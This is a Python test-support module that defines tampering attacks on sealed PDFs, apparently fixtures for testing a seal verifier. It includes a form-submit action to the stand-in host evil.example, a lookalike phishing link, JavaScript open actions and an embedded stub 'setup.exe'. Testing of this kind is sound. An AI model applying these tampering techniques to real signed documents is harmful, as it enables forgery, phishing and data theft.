"""What an attacker adds to a sealed PDF, each as one incremental update."""

from __future__ import annotations

import asyncio
import io
from collections.abc import Callable

from pyhanko.pdf_utils.content import RawContent
from pyhanko.pdf_utils.embed import EmbeddedFileObject, FileSpec, embed_file
from pyhanko.pdf_utils.generic import (
    ArrayObject,
    BooleanObject,
    DictionaryObject,
    NumberObject,
    StreamObject,
    pdf_name,
    pdf_string,
)
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.layout import BoxConstraints
from pyhanko.sign import signers
from pyhanko.sign.fields import SigFieldSpec
from pyhanko.sign.signers.cms_embedder import PdfCMSEmbedder, SigAppearanceSetup, SigIOSetup, SigObjSetup
from pyhanko.sign.signers.pdf_byterange import DocumentTimestamp
from pyhanko.stamp import StaticStampStyle

from proofs.pades_sealing import TimestampAdapter
from tests.support.pdf_pki import NOW
from tests.support.pdf_scene import Attack, Scene, Update

OVERLAY = b"q 1 1 1 rg 300 440 60 14 re f Q\n"


def update(change: Update) -> Attack:
    """Return the attack that adds one update to the sealed file."""
    return lambda scene: scene.updated(change)


def _page(writer: IncrementalPdfFileWriter, number: int = 0) -> DictionaryObject:
    return writer.find_page_for_modification(number)[0].get_object()


def overlay(writer: IncrementalPdfFileWriter) -> None:
    writer.add_stream_to_page(0, writer.add_object(StreamObject(stream_data=OVERLAY)))


def rewritten_content(writer: IncrementalPdfFileWriter) -> None:
    contents = _page(writer).raw_get("/Contents")
    if isinstance(contents, ArrayObject):
        contents = contents.raw_get(0)
    changed = StreamObject(stream_data=contents.get_object().data + OVERLAY)
    writer.objects[(contents.generation, contents.idnum)] = changed


def appended_page(writer: IncrementalPdfFileWriter) -> None:
    page = DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Page"),
            pdf_name("/MediaBox"): ArrayObject(map(NumberObject, (0, 0, 612, 792))),
            pdf_name("/Contents"): writer.add_object(StreamObject(stream_data=b"q Q")),
            pdf_name("/Resources"): DictionaryObject(),
        }
    )
    writer.insert_page(page)


def _appearance(writer: IncrementalPdfFileWriter, width: int = 60, height: int = 14) -> DictionaryObject:
    form = StreamObject(
        {
            pdf_name("/Type"): pdf_name("/XObject"),
            pdf_name("/Subtype"): pdf_name("/Form"),
            pdf_name("/BBox"): ArrayObject(map(NumberObject, (0, 0, width, height))),
        },
        stream_data=b"1 1 1 rg 0 0 %d %d re f" % (width, height),
    )
    return DictionaryObject({pdf_name("/N"): writer.add_object(form)})


def annotation(subtype: str, more: dict[str, object] | None = None) -> Update:
    def change(writer: IncrementalPdfFileWriter) -> None:
        page = _page(writer)
        annotation = DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Annot"),
                pdf_name("/Subtype"): pdf_name(subtype),
                pdf_name("/Rect"): ArrayObject(map(NumberObject, (300, 440, 360, 454))),
                pdf_name("/F"): NumberObject(4),
                pdf_name("/Contents"): pdf_string("A+"),
                pdf_name("/AP"): _appearance(writer),
                **{pdf_name(name): value for name, value in (more or {}).items()},
            }
        )
        reference = writer.add_object(annotation)
        if "/Annots" in page:
            page["/Annots"].append(reference)
            writer.update_container(page["/Annots"])
        else:
            page[pdf_name("/Annots")] = ArrayObject([reference])
        writer.update_container(page)
        if subtype == "/Widget":
            writer.root["/AcroForm"]["/Fields"].append(reference)
            writer.update_container(writer.root["/AcroForm"]["/Fields"])

    return change


def _field(writer: IncrementalPdfFileWriter, index: int) -> DictionaryObject:
    return writer.root["/AcroForm"]["/Fields"].raw_get(index).get_object()


def seal_widget_repainted(writer: IncrementalPdfFileWriter) -> None:
    widget = _field(writer, 0)
    widget[pdf_name("/Rect")] = ArrayObject(map(NumberObject, (0, 0, 612, 792)))
    widget[pdf_name("/AP")] = _appearance(writer, 612, 792)
    writer.update_container(widget)


def timestamp_widget_painted(writer: IncrementalPdfFileWriter) -> None:
    widget = _field(writer, len(writer.root["/AcroForm"]["/Fields"]) - 1)
    widget[pdf_name("/Rect")] = ArrayObject(map(NumberObject, (300, 440, 360, 454)))
    widget[pdf_name("/AP")] = _appearance(writer)
    writer.update_container(widget)


def replaced_attachment(writer: IncrementalPdfFileWriter) -> None:
    spec = writer.root["/Names"]["/EmbeddedFiles"]["/Names"][1]
    file = spec["/EF"].raw_get("/F")
    forged = StreamObject({pdf_name("/Type"): pdf_name("/EmbeddedFile")}, stream_data=b'{"forged": true}')
    writer.objects[(file.generation, file.idnum)] = forged


def added_attachment(writer: IncrementalPdfFileWriter) -> None:
    data = EmbeddedFileObject.from_file_data(writer, b"{}")
    embed_file(writer, FileSpec(file_spec_string="second.json", file_name="second.json", embedded_data=data))


def metadata(writer: IncrementalPdfFileWriter) -> None:
    reference = writer.root.raw_get("/Metadata")
    changed = StreamObject(
        {pdf_name("/Type"): pdf_name("/Metadata"), pdf_name("/Subtype"): pdf_name("/XML")},
        stream_data=reference.get_object().data.replace("Zoé".encode(), b"Bob"),
    )
    writer.objects[(reference.generation, reference.idnum)] = changed


def pages_swapped(writer: IncrementalPdfFileWriter) -> None:
    pages = writer.root["/Pages"]
    kids = pages["/Kids"]
    order = [kids.raw_get(at) for at in range(len(kids))]
    pages[pdf_name("/Kids")] = ArrayObject(order[::-1])
    writer.update_container(pages)


def open_action(kind: str) -> Update:
    def change(writer: IncrementalPdfFileWriter) -> None:
        writer.root[pdf_name("/OpenAction")] = DictionaryObject(
            {pdf_name("/S"): pdf_name(kind), pdf_name("/JS"): pdf_string("app.alert(1)")}
        )
        writer.update_root()

    return change


def font_swapped(writer: IncrementalPdfFileWriter) -> None:
    fonts = _page(writer)["/Resources"]["/Font"]
    font = fonts[next(iter(fonts))]
    font[pdf_name("/BaseFont")] = pdf_name("/Evil")
    writer.update_container(font)


def layers(writer: IncrementalPdfFileWriter) -> None:
    layers = DictionaryObject({pdf_name("/OCGs"): ArrayObject(), pdf_name("/D"): DictionaryObject()})
    writer.root[pdf_name("/OCProperties")] = layers
    writer.update_root()


def store_deleted(writer: IncrementalPdfFileWriter) -> None:
    del writer.root["/DSS"]
    writer.update_root()


def later_timestamp(pdf: bytes, scene: Scene) -> bytes:
    adapter = TimestampAdapter(scene.world.timestamper)
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False)
    return asyncio.run(signers.PdfTimeStamper(adapter).async_timestamp_pdf(writer, "sha256")).getvalue()


def visible_timestamp(scene: Scene) -> bytes:
    writer = IncrementalPdfFileWriter(io.BytesIO(scene.sealed), strict=False)
    field_spec = SigFieldSpec("Later", on_page=0, box=(20, 20, 590, 760))
    steps = PdfCMSEmbedder(new_field_spec=field_spec).write_cms(field_name="Later", writer=writer)
    next(steps)
    white = RawContent(b"1 1 1 rg 0 0 570 740 re f", box=BoxConstraints(570, 740))
    look = SigAppearanceSetup(style=StaticStampStyle(background=white), timestamp=NOW, name="x")
    steps.send(SigObjSetup(sig_placeholder=DocumentTimestamp(bytes_reserved=8192), appearance_setup=look))
    prepared, out = steps.send(SigIOSetup(md_algorithm="sha256", in_place=False))
    token = asyncio.run(TimestampAdapter(scene.world.timestamper).async_timestamp(prepared.document_digest, "sha256"))
    steps.send(token.dump())
    return out.getvalue()


# --- threats.md H16, H19, H22, and what a reader does not see ---------------------------------------


def _action(kind: str, **entries: object) -> DictionaryObject:
    return DictionaryObject(
        {pdf_name("/S"): pdf_name(kind), **{pdf_name(f"/{name}"): value for name, value in entries.items()}}
    )


def link_over_the_code(writer: IncrementalPdfFileWriter) -> None:
    """H16: the printed code leads to a host that looks alike."""
    target = pdf_string("https://registrar.parchemin.example.evil.example/d/7Q4KX9mVn2sYtE1bHc8RpA")
    annotation("/Link", {"/A": _action("/URI", URI=target)})(writer)


def another_code_drawn(writer: IncrementalPdfFileWriter) -> None:
    """H16: another code is drawn over the printed one."""
    modules = b"q 1 1 1 rg 62 86 88 88 re f 0 0 0 rg " + b"".join(b"%d 90 4 80 re f " % x for x in range(64, 148, 8))
    writer.add_stream_to_page(-1, writer.add_object(StreamObject(stream_data=modules + b"Q\n")))


def form_sent_away(writer: IncrementalPdfFileWriter) -> None:
    annotation("/Link", {"/A": _action("/SubmitForm", F=pdf_string("https://evil.example"))})(writer)


def program_attached(writer: IncrementalPdfFileWriter) -> None:
    data = EmbeddedFileObject.from_file_data(
        writer, b"MZ\x90\x00", mime_type="application/vnd.microsoft.portable-executable"
    )
    embed_file(writer, FileSpec(file_spec_string="setup.exe", file_name="setup.exe", embedded_data=data))


def page_script(writer: IncrementalPdfFileWriter) -> None:
    page = _page(writer)
    page[pdf_name("/AA")] = DictionaryObject({pdf_name("/O"): _action("/JavaScript", JS=pdf_string("app.alert(1)"))})
    writer.update_container(page)


def in_the_form(name: str, value: Callable[[IncrementalPdfFileWriter], object]) -> Update:
    """Return an update that sets an entry of the form dictionary."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        form = writer.root["/AcroForm"]
        form[pdf_name(name)] = value(writer)
        writer.update_container(form)

    return change


def xfa(writer: IncrementalPdfFileWriter) -> object:
    """H22: a form of the other kind, which some viewers draw instead of the pages."""
    return writer.add_object(StreamObject(stream_data=b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>"))


def true(_: IncrementalPdfFileWriter) -> object:
    return BooleanObject(True)


def seal_taken_from_its_field(writer: IncrementalPdfFileWriter) -> None:
    widget = _field(writer, 0)
    del widget["/V"]
    writer.update_container(widget)


def permissions_deleted(writer: IncrementalPdfFileWriter) -> None:
    del writer.root["/Perms"]
    writer.update_root()


def page_cut(writer: IncrementalPdfFileWriter) -> None:
    page = _page(writer)
    page[pdf_name("/CropBox")] = ArrayObject(map(NumberObject, (0, 460, 612, 792)))
    writer.update_container(page)


def spoken_text_changed(writer: IncrementalPdfFileWriter) -> None:
    """Let a screen reader say something else than the page shows."""
    tree = writer.root["/StructTreeRoot"]
    element = tree["/K"]
    element = element[0] if isinstance(element, ArrayObject) else element
    element[pdf_name("/ActualText")] = pdf_string("A+")
    writer.update_container(element)


def print_layer_shown(writer: IncrementalPdfFileWriter) -> None:
    layers = writer.root["/OCProperties"]
    layers["/D"][pdf_name("/OFF")] = ArrayObject()
    writer.update_container(layers["/D"])
